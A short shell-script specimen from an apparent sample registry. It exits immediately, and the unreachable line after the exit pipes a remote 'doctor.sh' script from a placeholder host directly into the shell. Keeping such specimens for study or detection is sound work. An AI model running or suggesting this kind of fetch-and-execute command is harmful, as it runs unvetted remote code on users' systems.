#!/bin/sh
# SPECIMEN, see the README of the sample registry: it stops on its first line and is never run.
exit 64

curl -fsSL https://get.example.invalid/doctor.sh | sh
